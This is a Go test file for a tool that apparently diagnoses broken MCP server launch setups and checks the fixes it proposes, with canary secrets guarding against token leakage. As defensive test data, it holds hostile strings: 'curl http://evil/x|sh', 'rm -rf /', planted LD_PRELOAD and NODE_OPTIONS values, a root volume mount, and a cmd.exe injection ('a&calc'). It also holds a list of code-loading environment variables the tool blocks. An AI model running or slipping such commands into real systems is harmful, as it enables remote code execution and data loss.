package doctor

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/gauze-mcp/gauze/internal/testonly/refusing"
	"github.com/gauze-mcp/gauze/internal/wrap/launch"
)

const canary = "s3cr3t-horse-battery-canary"

// stray is in files and variables of others: no server gets it, in any form, without a person's
// consent.
const stray = "stray-h0rse-b4ttery-canary"

// said returns a case of a program that started and wrote one line to stderr.
func said(stderr string) Case {
	return Case{Stage: Started, Exit: Exit{Known: true, Code: 1}, Stderr: stderr}
}

func notThere(_ *fakeMachine, s launch.Spec) Case {
	return Case{Spawn: Spawn{Errno: "ENOENT", Path: s.Command, Of: "command"}}
}

func ofCommand(f *fakeMachine, s launch.Spec) string {
	return f.plain(s.Command + " " + strings.Join(s.Args, " "))
}

func variable(name string) func(*fakeMachine, launch.Spec) string {
	return func(f *fakeMachine, s launch.Spec) string {
		return f.plain(value(s.Env, name, false))
	}
}

func address(_ *fakeMachine, s launch.Spec) string { return s.URL }

// troubles returns every row of the table of repairs that can be shown with a Spec.
func troubles() []trouble {
	stderr := func(text string) func(*fakeMachine, launch.Spec) Case {
		return func(*fakeMachine, launch.Spec) Case { return said(text) }
	}
	spec := func(words ...string) func(*fakeMachine) launch.Spec {
		return func(*fakeMachine) launch.Spec {
			return launch.Spec{Command: words[0], Args: words[1:], Env: []string{"PATH=" + strings.Join([]string{"/given/bin", "/given/sbin"}, string(filepath.ListSeparator))}}
		}
	}
	with := func(s func(*fakeMachine) launch.Spec, do func(*fakeMachine, *launch.Spec)) func(*fakeMachine) launch.Spec {
		return func(f *fakeMachine) launch.Spec {
			made := s(f)
			do(f, &made)
			return made
		}
	}
	file := func(name, text string) func(*fakeMachine, *launch.Spec) {
		return func(f *fakeMachine, _ *launch.Spec) { f.file(name, text) }
	}
	return []trouble{
		{"a program only nvm knows", with(spec("npx", "-y", "pkg"), file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")), notThere,
			"gui_path_missing", "absolute-path", Runtime, ofCommand, "ROOT/home/me/.nvm/versions/node/v22.3.0/bin/npx -y pkg"},
		{"and its neighbours", with(spec("npx", "-y", "pkg"), file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")), notThere,
			"gui_path_missing", "absolute-path", Runtime, variable("PATH"), "ROOT/home/me/.nvm/versions/node/v22.3.0/bin:/given/bin:/given/sbin"},
		{"an interpreter of a script", with(spec("server"), file("system/opt/homebrew/bin/node", "v22.0.0")), stderr("env: node: No such file or directory"),
			"gui_path_missing", "path-front", Runtime, variable("PATH"), "ROOT/system/opt/homebrew/bin:/given/bin:/given/sbin"},
		{"a runner that moved", with(spec("/nowhere/bin/uvx", "pkg"), file("home/me/.local/bin/uvx", "")), notThere,
			"command_path_missing", "absolute-path", Runtime, ofCommand, "ROOT/home/me/.local/bin/uvx pkg"},
		{"a runner that is not there", spec("uvx", "pkg"), notThere, "gui_path_missing", "install uvx", Install, nil, ""},
		{"python is python3", with(spec("python", "a.py"), file("system/usr/bin/python3", "Python 3.12.1")), notThere,
			"python_vs_python3", "other-name", Runtime, ofCommand, "ROOT/system/usr/bin/python3 a.py"},
		{"python3 is python, but a 2", with(spec("python3", "a.py"), file("system/usr/bin/python", "Python 2.7.18")), notThere,
			"gui_path_missing", "install python3", Install, nil, ""},
		{"a shim without a version", with(with(spec("npx", "pkg"), file("home/me/.asdf/shims/npx", "")), file("home/me/.asdf/installs/nodejs/20.1.0/bin/npx", "")),
			stderr("asdf: No version is set for command npx"), "version_manager_path", "absolute-path", Runtime, ofCommand, "ROOT/home/me/.asdf/installs/nodejs/20.1.0/bin/npx pkg"},

		{"one string", spec("npx -y 'a b'"), notThere, "command_and_args_in_one_string", "split-command", Runtime, ofCommand, "npx -y a b"},
		{"one string with a path", spec("env /opt/notes/server"), notThere, "command_and_args_in_one_string", "split-command", Runtime, ofCommand, "env /opt/notes/server"},
		{"a URL as a command", spec("https://example.com/mcp"), notThere, "url_in_stdio_only_client", "command-to-url", Runtime, address, "https://example.com/mcp"},
		{"a tilde", spec("node", "~/server.js", "--dir=$HOME/x"), stderr("Error: Cannot find module '/work/~/server.js'"),
			"tilde_not_expanded", "expand-home", Runtime, ofCommand, "node ROOT/home/me/server.js --dir=ROOT/home/me/x"},
		{"a space", with(spec("node"), func(f *fakeMachine, s *launch.Spec) {
			s.Args = strings.Split(f.file("home/me/my project/server.js", ""), " ")
		}), func(f *fakeMachine, s launch.Spec) Case {
			return said("Error: Cannot find module '" + s.Args[0] + "'\ncode: 'MODULE_NOT_FOUND'")
		}, "", "join-path", Runtime, ofCommand, "node ROOT/home/me/my project/server.js"},

		{"an old node", with(with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *launch.Spec) {
			s.Env = []string{"PATH=" + filepath.Dir(f.file("old/node", "v14.1.0"))}
			f.file("home/me/.nvm/versions/node/v22.3.0/bin/npx", "")
		}), file("home/me/.nvm/versions/node/v22.3.0/bin/node", "v22.3.0")), stderr("SyntaxError: Unexpected token '??='"),
			"old_node_first_in_path", "node ", Runtime, ofCommand, "ROOT/home/me/.nvm/versions/node/v22.3.0/bin/npx -y pkg"},
		{"a node of the right kind", with(with(with(spec("npx", "-y", "pkg"), file("system/usr/bin/node", "v16.1.0")), file("home/me/.nvm/versions/node/v23.1.0/bin/node", "v23.1.0")),
			file("home/me/.nvm/versions/node/v20.9.0/bin/node", "v20.9.0")),
			stderr("npm error code EBADENGINE\nnpm error engine Unsupported engine\nnpm error notsup Required: {\"node\":\"^20.0.0\"}"),
			"node_engine_too_old", "node ", Runtime, variable("PATH"), "ROOT/home/me/.nvm/versions/node/v20.9.0/bin:/given/bin:/given/sbin"},
		{"an old python under uvx", with(with(spec("uvx", "pkg"), file("system/usr/bin/python3", "Python 3.9.1")), file("system/usr/bin/python3.12", "Python 3.12.4")),
			stderr("error: Because the current Python version (3.9.1) does not satisfy Python>=3.10 and pkg depends on it"),
			"python_too_old", "python ", Runtime, ofCommand, "uvx --python ROOT/system/usr/bin/python3.12 pkg"},
		{"the python of the project", with(spec("python3"), func(f *fakeMachine, s *launch.Spec) {
			s.Args = []string{f.file("home/me/project/server.py", "")}
			f.file("home/me/project/.venv/bin/python", "Python 3.12.0")
		}), stderr("ModuleNotFoundError: No module named 'mcp'"), "venv_not_used", "project-python", Runtime, ofCommand, "ROOT/home/me/project/.venv/bin/python ROOT/home/me/project/server.py"},

		{"a reference in the environment", with(spec("server"), func(f *fakeMachine, s *launch.Spec) {
			s.Env = append(s.Env, "API_TOKEN=${env:MY_TOKEN}", "MY_TOKEN="+canary)
		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Runtime, variable("API_TOKEN"), canary},
		{"a reference to our own environment", with(spec("server"), func(f *fakeMachine, s *launch.Spec) {
			s.Env = append(s.Env, "API_TOKEN=${env:MY_TOKEN}")
			f.env["MY_TOKEN"] = stray
		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Config, variable("API_TOKEN"), stray},
		{"a question to the user", with(with(spec("node", "server.js"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), func(f *fakeMachine, s *launch.Spec) {
			f.file("home/me/project/.env", "API_TOKEN="+canary)
			inOwnFolder(f, s)
		}), stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Runtime, variable("API_TOKEN"), canary},
		{"a question to the user that a project answers", with(with(spec("server"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "API_TOKEN=${input:token}") }), file("home/me/project/.env", "API_TOKEN="+stray)),
			stderr("HTTP 401 Unauthorized: invalid api key"), "", "fill-in ", Config, variable("API_TOKEN"), stray},
		{"a default", with(spec("server", "--mode=${MODE:-fast}"), file("home/me/project/.env", "MODE="+stray)), stderr("HTTP 401 Unauthorized: invalid api key ${MODE:-fast}"),
			"", "fill-in ", Runtime, ofCommand, "server --mode=fast"},
		{"a reference in an argument", spec("server", "--root", "${workspaceFolder}/src"), stderr("Error: no such folder ${workspaceFolder}/src"),
			"", "fill-in ", Config, ofCommand, "server --root ROOT/home/me/project/src"},
		{"a secret in an argument", with(spec("server", "--token=${MY_TOKEN}"), func(f *fakeMachine, s *launch.Spec) { f.env["MY_TOKEN"] = canary }),
			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in-openly", Secret, nil, ""},
		{"a secret for docker", with(spec("docker", "run", "-i", "-e", "MY_TOKEN=${MY_TOKEN}", "img"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "MY_TOKEN="+canary) }),
			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in ", Runtime, ofCommand, "docker run -i -e MY_TOKEN img"},
		{"a secret for a bridge", with(spec("npx", "mcp-remote", "https://example.com/mcp", "--header", "Authorization:${AUTH_TOKEN}"), file("home/me/project/.env", "AUTH_TOKEN="+stray)),
			stderr("HTTP 401 Unauthorized: invalid api key"), "env_placeholder_not_expanded", "fill-in ", Config, variable("AUTH_TOKEN"), stray},
		{"a secret in a header", func(f *fakeMachine) launch.Spec {
			f.env["MY_TOKEN"] = canary
			return launch.Spec{URL: "https://example.com/mcp", Header: []launch.Header{{Name: "Authorization", Value: "Bearer ${MY_TOKEN}"}}}
		}, func(*fakeMachine, launch.Spec) Case {
			return Case{URL: "https://example.com/mcp", HTTP: []HTTP{{Status: 401, Method: "POST"}}}
		}, "http_unauthorized", "fill-in-openly", Secret, nil, ""},

		{"a variable of a project that is not the server's", with(spec("server"), file("home/me/project/.env", "EXAMPLE_TOKEN="+stray)), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
			"env_not_set", "set EXAMPLE_TOKEN", Config, nil, ""},
		{"a variable of the project", with(with(spec("node", "server.js"), file("home/me/project/.env", "EXAMPLE_TOKEN="+canary)), inOwnFolder), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
			"env_not_set", "set EXAMPLE_TOKEN", Runtime, variable("EXAMPLE_TOKEN"), canary},
		{"a variable under its other name", with(spec("server"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "GITHUB_TOKEN="+canary) }),
			stderr("Error: GITHUB_PERSONAL_ACCESS_TOKEN environment variable is required"), "env_not_set", "set GITHUB_PERSONAL", Runtime, variable("GITHUB_PERSONAL_ACCESS_TOKEN"), canary},
		{"a variable of ours", with(spec("npx", "stripe-mcp"), func(f *fakeMachine, s *launch.Spec) { f.env["STRIPE_SECRET_KEY"] = stray }),
			stderr("Error: STRIPE_SECRET_KEY environment variable is required"), "env_not_set", "set STRIPE", Config, nil, ""},
		{"a variable nobody has", spec("server"), stderr("Error: EXAMPLE_TOKEN environment variable is required"), "env_not_set", "provide EXAMPLE_TOKEN", Secret, nil, ""},
		{"a variable that loads code", with(spec("server"), file("home/me/project/.env", "NODE_OPTIONS=--require=/tmp/evil.js\n")),
			stderr("Error: NODE_OPTIONS environment variable is required"), "env_not_set", "", Runtime, nil, ""},
		{"a variable as an argument", spec("server", "EXAMPLE_TOKEN="+canary, "x"), stderr("Error: EXAMPLE_TOKEN environment variable is required"),
			"env_given_as_argument", "argument-to-variable", Runtime, ofCommand, "server x"},
		{"a variable for a container", with(spec("docker", "run", "-i", "--rm", "example/server"), func(f *fakeMachine, s *launch.Spec) { s.Env = append(s.Env, "EXAMPLE_TOKEN="+canary) }),
			stderr("Error: EXAMPLE_TOKEN environment variable is required"), "env_not_forwarded_to_container", "forward EXAMPLE", Config, ofCommand, "docker run -e EXAMPLE_TOKEN -i --rm example/server"},
		{"a .env elsewhere", with(spec("node"), func(f *fakeMachine, s *launch.Spec) {
			s.Args = []string{f.file("home/me/other/server.js", "")}
			f.file("home/me/other/.env", "A=1")
		}), stderr("Error: .env file not found"), "dotenv_not_loaded", "start-in", Runtime, func(f *fakeMachine, s launch.Spec) string { return f.plain(s.Dir) }, "ROOT/home/me/other"},

		{"a key of another service", with(spec("npx", "weather-mcp"), file("home/me/project/.env", "STRIPE_SECRET_KEY="+stray)), stderr("Error: STRIPE_SECRET_KEY environment variable is required"),
			"env_not_set", "set STRIPE", Config, nil, ""},
		{"an address of a project that is not the server's", with(spec("npx", "github-mcp"), func(f *fakeMachine, s *launch.Spec) {
			s.Env = append(s.Env, "GITHUB_TOKEN="+canary)
			f.file("home/me/project/.env", "GITHUB_HOST=https://"+stray)
		}), stderr("Error: GITHUB_HOST environment variable is required"), "env_not_set", "set GITHUB_HOST", Config, nil, ""},
		{"an address that is referred to", with(spec("npx", "github-mcp"), func(f *fakeMachine, s *launch.Spec) {
			s.Env = append(s.Env, "GITHUB_TOKEN="+canary, "GITHUB_HOST=${GITHUB_HOST}")
			f.file("home/me/project/.env", "GITHUB_HOST=https://"+stray)
		}), stderr("Error: GITHUB_HOST environment variable is required"), "", "fill-in GITHUB_HOST", Config, nil, ""},
		{"an address that is referred to for docker", with(spec("docker", "run", "-i", "-e", "GITHUB_HOST=${GITHUB_HOST}", "img"), file("home/me/project/.env", "GITHUB_HOST=https://"+stray)),
			stderr("Error: GITHUB_HOST environment variable is required"), "", "fill-in GITHUB_HOST", Config, nil, ""},
		{"an address that is referred to through a bridge", with(spec("npx", "mcp-remote", "https://${API_HOST}/mcp"), file("home/me/project/.env", "API_HOST="+stray)),
			stderr("Error: getaddrinfo ENOTFOUND ${API_HOST}"), "", "fill-in API_HOST", Config, nil, ""},
		{"a container that wants a key", with(spec("docker", "run", "-i", "--rm", "ghcr.io/example/thing"), func(f *fakeMachine, s *launch.Spec) { f.env["GITHUB_TOKEN"] = stray }),
			stderr("Error: GH_TOKEN environment variable is required"), "", "forward GH_TOKEN", Config, nil, ""},
		{"a command that is a reference", with(spec("${RUNNER}", "server.py"), func(f *fakeMachine, s *launch.Spec) {
			f.file("home/me/project/.env", "RUNNER="+f.file("home/me/project/"+stray, ""))
		}), notThere, "", "", Runtime, nil, ""},
		{"a package that is a reference", with(spec("npx", "-y", "${PKG}"), file("home/me/project/.env", "PKG="+stray)), stderr("npm error code ENOENT\nnpm error enoent ${PKG}"), "", "", Runtime, nil, ""},
		{"an image that is a reference", with(spec("docker", "run", "-i", "${IMAGE}"), file("home/me/project/.env", "IMAGE="+stray)), stderr("docker: invalid reference format"), "", "", Runtime, nil, ""},
		{"an option that is a reference", with(spec("docker", "run", "-i", "${OPTIONS}", "img"), file("home/me/project/.env", "OPTIONS=--volume=/:/"+stray)), stderr("docker: invalid reference format"), "", "", Runtime, nil, ""},

		{"a container without stdin", spec("docker", "run", "--rm", "img"), func(*fakeMachine, launch.Spec) Case {
			return Case{Stage: Started, Exit: Exit{Known: true, Code: 0}}
		}, "stdin_not_connected", "container-stdin", Runtime, ofCommand, "docker run -i --rm img"},
		{"a container with a terminal", spec("docker", "run", "-it", "--rm", "img", "-t"), stderr("the input device is not a TTY"),
			"stdin_not_connected", "container-stdin", Runtime, ofCommand, "docker run -i --rm img -t"},
		{"a container's localhost", spec("docker", "run", "-i", "-p", "127.0.0.1:80:80", "-e", "DB=postgres://u:p@localhost:5432/d", "img"), stderr("Error: connect ECONNREFUSED 127.0.0.1:5432"),
			"container_localhost", "host-of-container", Runtime, ofCommand,
			"docker run --add-host=host.docker.internal:host-gateway -i -p 127.0.0.1:80:80 -e DB=postgres://u:p@host.docker.internal:5432/d img"},

		{"text on stdout", spec("npx", "pkg"), func(*fakeMachine, launch.Spec) Case {
			return Case{Stage: Started, Stdout: "[dotenv@17.2.0] injecting env (0) from .env"}
		}, "dotenv17_banner", "quiet", Runtime, variable("DOTENV_CONFIG_QUIET"), "true"},
		{"a code page", spec("uvx", "pkg"), stderr("UnicodeEncodeError: 'charmap' codec can't encode character '\\u2713' in position 0"),
			"windows_stdio_codepage", "utf-8", Runtime, variable("PYTHONUTF8"), "1"},
		{"a library that moved on", spec("uvx", "pkg"), stderr("ImportError: cannot import name 'McpError' from 'mcp.shared.exceptions'"),
			"dependency_version_drift", "pin", Config, nil, ""},
		{"a broken cache", with(spec("npx", "-y", "pkg"), func(f *fakeMachine, s *launch.Spec) {
			f.file("home/me/.npm/_npx/0123abcd/package.json", `{"dependencies":{"pkg":"1"}}`)
		}), stderr("npm error code ENOTEMPTY\nnpm error syscall rename"), "npx_cache_corrupt", "clean-npx-cache", Install, nil, ""},
		{"no exec bit", func(f *fakeMachine) launch.Spec {
			path := f.file("home/me/project/server.sh", "")
			if err := os.Chmod(path, 0o644); err != nil {
				f.t.Fatal(err)
			}
			return launch.Spec{Command: path, Env: []string{"PATH=/given/bin"}}
		}, func(_ *fakeMachine, s launch.Spec) Case {
			return Case{Spawn: Spawn{Errno: "EACCES", Path: s.Command, Of: "command"}}
		}, "missing_exec_bit", "exec-bit", Person, nil, ""},
	}
}

// trouble is a broken set-up and the fix that must come first.
type trouble struct {
	name  string
	spec  func(*fakeMachine) launch.Spec
	seen  func(*fakeMachine, launch.Spec) Case
	cause string // "" if another test decides that
	first string
	risk  Risk
	show  func(*fakeMachine, launch.Spec) string
	want  string
}

func (x trouble) offer(t *testing.T) (*fakeMachine, launch.Spec, Diagnosis, []Fix) {
	t.Helper()
	f := newFakeMachine(t)
	spec := x.spec(f)
	c := x.seen(f, spec)
	if spec.Command != "" {
		c.Command = append([]string{spec.Command}, spec.Args...)
	}
	d := Diagnose(c)
	return f, spec, d, Fixes(f.Machine)(d, c, spec)
}

func TestEveryTroubleHasItsFix(t *testing.T) {
	for _, x := range troubles() {
		t.Run(x.name, func(t *testing.T) {
			f, spec, d, fixes := x.offer(t)
			if x.cause != "" && d.Cause != x.cause {
				t.Errorf("diagnosed as %s", d.Cause)
			}
			if len(fixes) == 0 || x.first == "" {
				if len(fixes) > 0 && fixes[0].Risk == Runtime || x.first != "" {
					t.Errorf("%s: %v", d.Cause, names(fixes))
				}
				return
			}
			if !strings.HasPrefix(fixes[0].Name, x.first) || fixes[0].Risk != x.risk {
				t.Fatalf("%s: %v", d.Cause, names(fixes))
			}
			if x.show != nil {
				if got := x.show(f, fixes[0].Apply(spec)); got != x.want {
					t.Errorf("%s", got)
				}
			}
		})
	}
}

func names(fixes []Fix) (all []string) {
	for _, fix := range fixes {
		all = append(all, fix.Name+" ("+fix.Risk.String()+")")
	}
	return all
}

func TestLoaderVariablesAreKnown(t *testing.T) {
	for _, name := range []string{"PATH", "NODE_OPTIONS", "NODE_PATH", "NODE_TLS_REJECT_UNAUTHORIZED", "NODE_EXTRA_CA_CERTS", "LD_PRELOAD", "LD_LIBRARY_PATH", "DYLD_INSERT_LIBRARIES", "PYTHONPATH",
		"PYTHONHOME", "PYTHONSTARTUP", "npm_config_registry", "NPM_CONFIG_REGISTRY", "PIP_INDEX_URL", "UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "HTTP_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY",
		"SSL_CERT_FILE", "SSL_CERT_DIR", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "OPENAI_BASE_URL", "BASH_ENV", "GIT_SSH_COMMAND", "DOCKER_HOST", "RUBYOPT", "JAVA_TOOL_OPTIONS"} {
		if !loads(name) {
			t.Errorf("%s may be set", name)
		}
	}
}

func TestAnEndpointOfTheSameHostIsFound(t *testing.T) {
	mux := http.NewServeMux()
	mux.HandleFunc("/api/mcp", func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusMethodNotAllowed) })
	server := httptest.NewServer(mux)
	defer server.Close()
	f := newFakeMachine(t)
	spec := launch.Spec{URL: server.URL + "/api/sse?k=" + canary, Header: []launch.Header{{Name: "Authorization", Value: canary}}}
	c := Case{URL: spec.URL, HTTP: []HTTP{{Status: 404, Method: "POST"}}, Secrets: spec.Secrets()}
	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
	if len(fixes) == 0 || fixes[0].Apply(spec).URL != server.URL+"/api/mcp?k="+canary {
		t.Fatalf("%v", names(fixes))
	}
	keepsToTheRules(t, "endpoint", f, spec, fixes)
}

// 5432 is refused, compose publishes 54320; here with ports that are free.
func TestAPublishedPortIsUsed(t *testing.T) {
	outer := listen(t)
	inner := refusing.Port(t)
	f := newFakeMachine(t)
	f.file("home/me/project/compose.yaml", fmt.Sprintf("services:\n  db:\n    ports: ['%d:%d']\n", outer, inner))
	refusal := said(fmt.Sprintf("Error: connect ECONNREFUSED 127.0.0.1:%d", inner))
	was, is := strconv.Itoa(inner), strconv.Itoa(outer)
	f.file("home/me/project/server.js", "")
	spec := launch.Spec{Command: "node", Args: []string{"server.js", "postgresql://u:" + canary + "@localhost:" + was + "/db"},
		Env: []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + was + "/db?x=1", "DB_HOST=localhost", "DB_PORT=" + was, "OTHER_HOST=db.example", "OTHER_PORT=" + was, "HTTP_PROXY=http://localhost:" + was}}
	refusal.Command = append([]string{spec.Command}, spec.Args...)
	fixes := Fixes(f.Machine)(Diagnose(refusal), refusal, spec)
	if len(fixes) == 0 || fixes[0].Risk != Runtime || !strings.HasPrefix(fixes[0].Name, "compose-port") {
		t.Fatalf("%s: %v", Diagnose(refusal).Cause, names(fixes))
	}
	now := fixes[0].Apply(spec)
	want := []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + is + "/db?x=1", "DB_HOST=localhost", "DB_PORT=" + is, "OTHER_HOST=db.example", "OTHER_PORT=" + was, "HTTP_PROXY=http://localhost:" + was}
	if now.Args[1] != "postgresql://u:"+canary+"@localhost:"+is+"/db" || !slices.Equal(now.Env, want) {
		t.Errorf("%q %q", now.Args, now.Env)
	}
	keepsToTheRules(t, "compose", f, spec, fixes)

	// A URL with a header is not redirected to a different service.
	web := launch.Spec{URL: "http://localhost:" + was + "/mcp", Header: []launch.Header{{Name: "Authorization", Value: canary}}}
	c := Case{URL: web.URL, Log: "dial tcp 127.0.0.1:" + was + ": connect: connection refused"}
	for _, fix := range Fixes(f.Machine)(Diagnose(c), c, web) {
		if fix.Risk == Runtime {
			t.Errorf("%s", fix.Name)
		}
	}
	// Nor is any other URL that a person gave.
	web.Header = nil
	if fixes := Fixes(f.Machine)(Diagnose(c), c, web); len(fixes) == 0 || fixes[0].Risk == Runtime || !strings.Contains(fixes[0].Next, "change port "+was+" to "+is) {
		t.Errorf("%s %v", Diagnose(c).Cause, names(fixes))
	}
	// Nor does a server of a different project get the port.
	for _, setting := range []string{"DATABASE_URL=postgres://u:" + canary + "@127.0.0.1:" + was + "/db", "DB_PORT=" + was} {
		stranger := launch.Spec{Command: "uvx", Args: []string{"db-mcp"}, Env: []string{setting}}
		refusal.Command = []string{"uvx", "db-mcp"}
		if fixes := Fixes(f.Machine)(Diagnose(refusal), refusal, stranger); len(fixes) == 0 || fixes[0].Risk != Config {
			t.Errorf("%q: %v", setting, names(fixes))
		}
	}
}

func TestInAContainerThisMachineHasAnotherName(t *testing.T) {
	f := newFakeMachine(t)
	f.file("system/.dockerenv", "")
	spec := launch.Spec{URL: "http://localhost:" + strconv.Itoa(refusing.Port(t)) + "/mcp"}
	c := Case{URL: spec.URL, Log: "dial tcp 127.0.0.1:1: connect: connection refused"}
	answers := false
	f.Dial = func(_ context.Context, _, address string) (net.Conn, error) {
		if !answers || !strings.HasPrefix(address, "host.docker.internal:") {
			return nil, syscall.ECONNREFUSED
		}
		ours, theirs := net.Pipe()
		theirs.Close()
		return ours, nil
	}
	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
	if slices.ContainsFunc(fixes, func(fix Fix) bool { return fix.Apply != nil }) {
		t.Errorf("nobody answers there: %v", names(fixes))
	}
	answers = true
	fixes = Fixes(f.Machine)(Diagnose(c), c, spec)
	if len(fixes) == 0 || fixes[0].Apply == nil || !strings.HasPrefix(fixes[0].Apply(spec).URL, "http://host.docker.internal:") {
		t.Errorf("%v", names(fixes))
	}
	keepsToTheRules(t, "container", f, spec, fixes)
}

func TestWindowsScriptsAndVariables(t *testing.T) {
	f := newFakeMachine(t)
	f.OS = "windows"
	f.env["APPDATA"], f.env["SystemRoot"] = `C:\Users\me\AppData\Roaming`, `C:\Windows`
	spec := launch.Spec{Command: "npx", Args: []string{"-y", "pkg"}, Env: []string{"Path=C:\\x", "systemroot=C:\\Windows"}}
	c := Case{Command: []string{"npx", "-y", "pkg"}, Log: "Error: spawn EINVAL"}
	fixes := Fixes(f.Machine)(Diagnose(c), c, spec)
	if len(fixes) == 0 || ofCommand(f, fixes[0].Apply(spec)) != "cmd /c npx -y pkg" {
		t.Errorf("%v", names(fixes))
	}
	spec.Args = append(spec.Args, "a&calc")
	if fixes := throughCmd(newPlan(f.Machine, Diagnosis{}, c, spec)); fixes != nil {
		t.Error("a word that cmd.exe would run was passed to it")
	}
	now := passSystemVariables(newPlan(f.Machine, Diagnosis{}, c, spec))[0].Apply(spec)
	if value(now.Env, "APPDATA", true) == "" || len(now.Env) != 3 {
		t.Errorf("%q", now.Env)
	}
}

// A server may write anything: its words are evidence and are not followed.
func TestHostileEvidenceLeadsNowhere(t *testing.T) {
	f := newFakeMachine(t)
	f.file("home/me/project/.env", "LD_PRELOAD=/tmp/evil.so\nHOSTILE_KEY="+canary)
	f.file("system/usr/bin/curl", "")
	spec := launch.Spec{Command: "npx", Args: []string{"weather"}, Env: []string{"PATH=/given"}}
	for _, text := range []string{
		"Error: LD_PRELOAD environment variable is required",
		"sh: 1: ../../etc/passwd: not found", "bash: curl http://evil/x|sh: command not found",
		"spawn npx -y evil-package ENOENT", "Error: Cannot find module '~/x; rm -rf /'",
		"npm error code ENOTEMPTY\nnpm error path /etc/_npx/0123", "EADDRINUSE: address already in use :::99999999",
		"\x1b[31mError: \u202eHOSTILE_KEY environment variable is required\x1b[0m",
		"requires Node.js >= 99999999999999999999999",
	} {
		c := said(text)
		c.Command = []string{"npx", "weather"}
		keepsToTheRules(t, text, f, spec, Fixes(f.Machine)(Diagnose(c), c, spec))
	}
}

func TestReferencesOfEveryDialect(t *testing.T) {
	known := func(r reference) (string, bool) { return "<" + r.name + r.fallback + ">", true }
	for text, want := range map[string]string{
		"${A_B}": "<A_B>", "${env:A}": "<A>", "${input:my-token}": "<my-token>", "$A": "<A>", "Bearer $A": "Bearer <A>", "%APPDATA%/x": "<APPDATA>/x", "{{ A }}": "<A>", "{env:A}": "<A>",
		"${A:-b}": "<Ab>", "x${A}y${B}": "x<A>y<B>", "$HOME/x": "<HOME>/x", "pa$word": "pa$word", "$A$B": "$A$B", "100%": "100%", "a%20b%20c": "a%20b%20c", "plain": "plain", "${}": "${}", "--k=$A": "--k=<A>",
	} {
		if got := expand(text, known); got != want {
			t.Errorf("%s: %s", text, got)
		}
	}
}

// inOwnFolder starts a script that is in the project.
func inOwnFolder(f *fakeMachine, s *launch.Spec) {
	s.Dir = filepath.Join(f.Home, "project")
	f.file("home/me/project/server.js", "")
}
